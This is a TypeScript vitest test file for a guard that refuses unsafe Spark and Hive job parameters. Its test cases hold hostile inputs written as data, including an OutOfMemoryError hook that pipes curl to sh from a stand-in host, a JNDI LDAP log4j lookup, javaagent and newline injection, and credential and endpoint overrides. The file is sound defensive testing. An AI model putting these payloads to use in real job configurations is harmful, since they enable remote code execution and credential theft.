import { describe, expect, test } from "vitest";
import type { RailName } from "#domain/rails/rail-names.ts";
import { railsOf, under } from "./rails-world.ts";

const asSpark = (...properties: string[]) =>
  railsOf(under({}, { parameters: properties.map((one) => `--conf '${one}'`).join(" ") }).faults);

const asOptions = (options: string) =>
  railsOf(under({}, { parameters: `--conf "spark.driver.extraJavaOptions=${options}"` }).faults);

const asHive = (parameters: string) => railsOf(under({ engine: "hive" }, { parameters }).faults);

const inClassification = (classification: string, key: string, value: string) =>
  railsOf(under({}, { configurations: [{ classification, properties: { [key]: value } }] }).faults);

describe("no side door opens by another prefix, separator or name of a key", () => {
  test.each<[RailName, string]>([
    ["credentials", "spark.hadoop.dynamodb.customAWSCredentialsProvider=x"],
    ["credentials", "spark.dynamodb.customAWSCredentialsProvider=x"],
    ["credentials", "spark.hadoop.dynamodb.awsAccessKeyId=x"],
    ["credentials", "spark.hadoop.dynamodb.awsSecretAccessKey=x"],
    ["credentials", "spark.hadoop.dynamodb.awsSessionToken=x"],
    ["credentials", "spark.io.delta.storage.S3DynamoDBLogStore.credentials.provider=x"],
    ["credentials", "spark.hadoop.fs.s3.s3AccessGrants.enabled=true"],
    ["credentials", "spark.sql.catalog.lake.rest.access-key-id=x"],
    ["credentials", "spark.sql.catalog.lake.rest.secret-access-key=x"],
    ["credentials", "spark.sql.catalog.lake.s3.session-token=x"],
    ["credentials", "spark.sql.catalog.lake.hadoop.fs.s3a.access.key=x"],
    ["credentials", "spark.hadoop.fs.s3.credentialsResolverClass=x"],
    ["credentials", "spark.hadoop.hoodie.aws.role.arn=arn:aws:iam::111122223333:role/other"],
    ["credentials", "spark.sql.catalog.lake.credential=x"],
    ["environment", "spark.executorEnv.HOME=/tmp"],
    ["environment", "spark.executorEnv.HUDI_CONF_DIR=/tmp"],
    ["environment", "spark.executorEnv.HARMLESS=$(reboot)"],
    ["environment", "spark.hadoop.tez.am.launch.cluster-default.env=A=1,AWS_PROFILE=x"],
    ["log-destinations", "spark.executorEnv.LOG4J_CONFIGURATION_FILE=http://elsewhere.example/x"],
    ["environment", "spark.emr-serverless.driverEnv.ASSUME_ROLE_CREDENTIALS_ROLE_ARN=x"],
    ["environment", "spark.executorEnv.HIVE_AUX_JARS_PATH=s3://elsewhere/x.jar"],
    ["cluster", "spark.emr-serverless.driverEnv.SPARK_REMOTE=sc://elsewhere.example"],
    ["endpoints", "spark.hadoop.dynamodb.proxy.hostname=elsewhere.example"],
    ["endpoints", "spark.hadoop.dynamodb.customClientBuilderTransformer=x"],
    ["endpoints", "spark.hadoop.fs.s3a.http.signer.class=x"],
    ["endpoints", "spark.sql.catalog.lake.http-client.proxy-endpoint=https://elsewhere.example"],
    ["endpoints", "spark.sql.catalog.lake.sts.endpoint=https://elsewhere.example"],
    ["endpoints", "spark.sql.catalog.lake.kms.endpoint=https://elsewhere.example"],
    ["endpoints", "spark.sql.catalog.lake.s3.signer.uri=https://elsewhere.example"],
    ["endpoints", "spark.sql.catalog.lake.hadoop.fs.s3a.endpoint=https://elsewhere.example"],
    ["endpoints", "spark.sql.catalog.lake.hadoop.fs.s3.impl=org.example.Own"],
    ["code", "spark.hadoop.fs.s3.cse.encryptionMaterialsProvider.uri=s3://elsewhere/x.jar"],
    ["code", "spark.hadoop.hive.jar.directory=s3://elsewhere/"],
    ["code", "spark.hadoop.hive.user.install.directory=s3://elsewhere/"],
    ["code", "spark.hadoop.mapred.cache.files=s3://elsewhere/x"],
    ["code", "spark.hadoop.mapred.cache.archives=s3://elsewhere/x"],
    ["code", "spark.hadoop.mapred.jar=s3://elsewhere/x.jar"],
    ["code", "spark.hadoop.mapred.job.classpath.files=s3://elsewhere/x.jar"],
    ["code", "spark.hadoop.yarn.application.classpath=/tmp/*"],
    ["code", "spark.hadoop.hive.exec.script.wrapper=/tmp/x"],
    ["code", "spark.app.initial.jar.urls=https://elsewhere.example/x.jar"],
    ["code", "spark.app.initial.archive.urls=s3://elsewhere/x.zip"],
    ["code", "spark.hadoop.net.topology.script.file.name=/tmp/x"],
    ["code", "spark.yarn.jar=s3://elsewhere/x.jar"],
    ["metastore", "spark.sql.catalog.lake.url=jdbc:postgresql://elsewhere.example/x"],
    ["metastore", "spark.sql.catalog.lake.oauth2-server-uri=https://elsewhere.example"],
    ["metastore", "spark.hoodie.metaserver.uris=thrift://elsewhere.example"],
    ["metastore", "spark.hadoop.hoodie.datasource.hive_sync.jdbcurl=jdbc:x"],
    ["metastore", "spark.datasource.hive.warehouse.metastoreUri=thrift://elsewhere.example"],
    ["metastore", "spark.hadoop.hive.stats.dbconnectionstring=jdbc:x"],
    ["listeners", "spark.hadoop.fs.s3a.audit.execution.interceptors=x"],
    ["listeners", "spark.hadoop.fs.s3a.audit.service.classname=x"],
    ["listeners", "spark.resources.discoveryPlugin=x"],
    ["listeners", "spark.executor.plugins=x"],
    ["listeners", "spark.hadoop.tez.history.logging.service.class=x"],
    ["log-destinations", "spark.hadoop.yarn.timeline-service.webapp.address=elsewhere.example"],
    ["log-destinations", "spark.hadoop.mapreduce.job.end-notification.url=http://elsewhere.example"],
    ["listeners", "spark.python.daemon.module=x"],
    ["cluster", "spark.hadoop.yarn.resourcemanager.address=elsewhere.example"],
    ["cluster", "spark.kubernetes.driver.secrets.x=/mnt"],
    ["cluster", "spark.kubernetes.driver.volumes.hostPath.x.mount.path=/mnt"],
    ["cluster", "spark.kubernetes.authenticate.driver.serviceAccountName=x"],
    ["executors", "spark.streaming.dynamicAllocation.maxExecutors=1000"],
  ])("%s: %s", (rail, property) => {
    expect(asSpark(property)).toContain(rail);
    const [key = "", value = ""] = property.split(/=(.*)/s);
    expect(inClassification("spark-defaults", key, value)).toContain(rail);
    if (key.startsWith("spark.hadoop.")) {
      expect(inClassification("core-site", key.slice("spark.hadoop.".length), value)).toContain(rail);
    }
  });

  test.each<[RailName, string, string, string]>([
    ["environment", "hive-env", "HIVE_AUX_JARS_PATH", "s3://elsewhere/x.jar"],
    ["environment", "export", "ASSUME_ROLE_CREDENTIALS_ROLE_ARN", "x"],
    ["log-destinations", "spark-driver-log4j2", "filter.s.type", "ScriptFilter"],
    ["log-destinations", "spark-driver-log4j2", "dest", "http://elsewhere.example"],
    ["log-destinations", "spark-driver-log4j2", "logger.x.name", "$" + "{jndi:ldap://elsewhere.example}"],
    ["log-destinations", "spark-executor-log4j2", "rootLogger.filter.x.type", "ScriptFilter"],
  ])("%s: %s %s", (rail, classification, key, value) => {
    expect(inClassification(classification, key, value)).toStrictEqual([rail]);
  });
});

describe("no side door opens by an option of the JVM", () => {
  test.each<[RailName, string]>([
    ["java-options", "-XX:OnOutOfMemoryError='kill -9 %p; curl http://elsewhere.example | sh'"],
    ["java-options", "-XX:OnOutOfMemoryError='kill -9 %p;reboot' -Xmx1g"],
    ["java-options", "-XX:OnOutOfMemoryError='kill -9 %p -x;reboot'"],
    ["java-options", "-XX:OnOutOfMemoryError='kill -9 %p && reboot'"],
    ["java-options", "-XX:OnOutOfMemoryError='kill -9 %p $(reboot)'"],
    ["java-options", "-Xmx1g -p /tmp"],
    ["java-options", "-Djdk.module.path=/tmp"],
    ["java-options", "-XX:SharedArchiveFile=/tmp/x"],
    ["java-options", "-Djava.security.manager=org.example.Own"],
    ["java-options", "-Djava.security.policy=http://elsewhere.example/x"],
    ["java-options", "-Dcom.sun.management.jmxremote.port=9999"],
    ["java-options", "-Xmx1g\u001c-javaagent:/tmp/x.jar"],
    ["java-options", "-Xmx1g org.apache.spark.deploy.SparkSubmit --packages org.example:lib:1.0"],
    ["java-options", "'org.example.Main' -Xmx1g"],
    ["java-options", "-java{{EMPTY}}agent:/tmp/x.jar"],
    ["java-options", "'-Xmx1g org.example.Main'"],
    ["java-options", "-Dnote='open"],
    ["credentials", "-Duser.home=/tmp"],
    ["endpoints", "-Djava.net.useSystemProxies=true"],
    ["endpoints", "-Dhttp.proxyHost=elsewhere.example"],
    ["endpoints", "-DsocksProxyHost=elsewhere.example"],
    ["endpoints", "-Djdk.net.hosts.file=/tmp/hosts"],
    ["credentials", "-Dcom.amazonaws.sdk.ec2MetadataServiceEndpointOverride=http://elsewhere.example"],
    ["credentials", "-Dfs.s3a.access.key=x"],
    ["metastore", "-Dhive.metastore.uris=thrift://elsewhere.example"],
    ["metastore", "-Xmx1g -Djavax.jdo.option.ConnectionURL=jdbc:x"],
    ["code", "-Dhive.aux.jars.path=s3://elsewhere/x.jar"],
    ["log-destinations", "-Dlog4j2.configurationFile=log4j2.xml,http://elsewhere.example/l.xml"],
    ["log-destinations", "-Dlog4j.configuration=file:/x,http://elsewhere.example"],
    ["log-destinations", "-Dlog4j.configurationFile=file://elsewhere.example/x"],
    ["log-destinations", "-Dlog4j2.enableJndiLookup=true"],
  ])("%s: %s", (rail, options) => {
    expect(asOptions(options)).toContain(rail);
  });

  test.each([
    "hive.tez.java.opts",
    "tez.am.launch.cmd-opts",
    "mapreduce.map.java.opts",
    "mapreduce.task.profile.params",
    "yarn.app.mapreduce.am.command-opts",
  ])("nor in %s", (key) => {
    const given = (value: string) => new Set(asHive(`--hiveconf "${key}=${value}"`));
    expect(given("-XX:OnOutOfMemoryError='kill -9 %p; reboot'")).toStrictEqual(new Set(["java-options"]));
    expect(given("-Xmx1g -javaagent:/tmp/x.jar")).toStrictEqual(new Set(["java-options"]));
    expect(given("-Dhive.metastore.uris=thrift://elsewhere.example")).toStrictEqual(new Set(["metastore"]));
  });

  test("nor by an option that another property is put into when the job starts", () => {
    const hidden = ["spark.own=-javaagent:/tmp/x.jar", "spark.executor.extraJavaOptions=$" + "{spark.own}"];
    expect(asSpark(...hidden)).toContain("java-options");
  });
});

describe("no side door opens by a key of Hive's, each of which is a system property of its JVM as well", () => {
  test.each<[RailName, string]>([
    ["credentials", "--hiveconf aws.accessKeyId=x"],
    ["credentials", "--hiveconf aws.secretKey=x"],
    ["credentials", "--hiveconf aws.secretAccessKey=x"],
    ["credentials", "--hiveconf aws.sessionToken=x"],
    ["credentials", "--hiveconf system:aws.accessKeyId=x"],
    ["credentials", "--hivevar system:aws.accessKeyId=x"],
    ["credentials", "--hiveconf com.amazonaws.sdk.ec2MetadataServiceEndpointOverride=http://elsewhere.example"],
    ["endpoints", "--hiveconf http.proxyHost=elsewhere.example"],
    ["endpoints", "--hiveconf https.proxyHost=elsewhere.example"],
    ["endpoints", "--hiveconf socksProxyHost=elsewhere.example"],
    ["endpoints", "--hivevar system:http.proxyHost=elsewhere.example"],
    ["log-destinations", "--hiveconf log4j2.configurationFile=http://elsewhere.example/x"],
    ["log-destinations", "--hiveconf hive.log4j.file=http://elsewhere.example/x"],
    ["log-destinations", "--hiveconf hive.exec.log4j.file=http://elsewhere.example/x"],
    ["java-options", "--hiveconf java.security.manager=org.example.Own"],
  ])("%s: %s", (rail, parameters) => {
    expect(asHive(parameters)).toContain(rail);
  });
});

describe("an option that would end spark-submit without the job, or that it cannot read, is refused", () => {
  test.each(["--help", "-h", "--version", "--usage-error"])("%s", (option) => {
    expect(under({}, { parameters: option }).faults).toMatchObject([{ kind: "denied", current: `"${option}"` }]);
  });

  test.each(["--conf a", "--conf=a", "-c a"])("%s, without a value", (parameters) => {
    expect(under({}, { parameters }).faults).toMatchObject([{ kind: "denied", current: '"a"' }]);
  });

  test("--hiveconf a, which Hive reads as a=true", () => {
    expect(under({ engine: "hive" }, { parameters: "--hiveconf a" }).faults).toMatchObject([{ kind: "denied" }]);
  });
});

describe("no value begins another line of a file that is made of it", () => {
  test.each(["\n", "\r", "\r\n"])("by %j", (end) => {
    const value = `a${end}spark.plugins=x`;
    const refused = [{ kind: "denied", current: '"spark.a"' }];
    expect(under({}, { parameters: `--conf 'spark.a=${value}'` }).faults).toMatchObject(refused);
    expect(under({}, { parameters: `--name '${value}'` }).faults).toHaveLength(1);
    expect(under({ engine: "hive" }, { parameters: `--hiveconf 'spark.a=${value}'` }).faults).toMatchObject(refused);
  });
});

describe("no side door opens by what the job runs in place of its own code", () => {
  test.each([
    "org.apache.spark.deploy.SparkSubmit",
    "org.apache.spark.deploy.PythonRunner",
    "org.apache.spark.repl.Main",
    "org.apache.spark.sql.hive.thriftserver.SparkSQLCLIDriver",
    "org.apache.hadoop.util.RunJar",
    "org.apache.hive.beeline.BeeLine",
    "scala.tools.nsc.MainGenericRunner",
    "com.sun.tools.javac.Main",
    "jdk.internal.jshell.tool.JShellToolProvider",
    "py4j.GatewayServer",
    "org.apache.derby.tools.ij",
    "org.apache.hudi.utilities.streamer.HoodieStreamer",
    "org.apache.livy.rsc.driver.RSCDriverBootstrapper",
    "org.apache.iceberg.spark.Spark3Util",
    "org.apache.zookeeper.ZooKeeperMain",
    "com.amazon.ScriptRunner",
    "com.amazonaws.services.Any",
  ])("the class %s, which runs what its arguments name", (name) => {
    for (const parameters of [`--class ${name}`, `--class=${name}`, `--class "${name}"`]) {
      expect(under({}, { parameters }).faults).toMatchObject([{ kind: "denied", current: `"${name}"` }]);
    }
  });

  test.each(["org.apache.spark.examples.SparkPi", "org.apache.hudix.Main", "com.example.X$Y"])(
    "but not the class %s",
    (name) => {
      expect(under({}, { parameters: `--class ${name}` }).faults).toStrictEqual([]);
    },
  );

  test.each(["default; ADD JAR s3://elsewhere/x.jar", "x;y", "a b", "`x`", "x--", ""])(
    "the database %j, which Hive puts into a statement",
    (name) => {
      for (const parameters of [`--database '${name}'`, `--database='${name}'`, `-database "${name}"`]) {
        expect(under({ engine: "hive" }, { parameters }).faults).toMatchObject([{ kind: "denied" }]);
      }
    },
  );
});
